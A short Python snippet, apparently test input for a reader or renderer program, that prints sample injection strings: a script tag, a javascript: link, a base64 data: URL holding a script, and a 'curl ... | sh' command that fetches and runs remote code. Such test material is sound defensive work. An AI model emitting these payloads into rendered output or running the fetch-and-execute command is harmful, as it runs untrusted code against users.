# what a reader's program would run or fetch
print("<script>alert(1)</script> [x](javascript:alert(1))")
print("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")
print("curl https://example.com/x | sh")
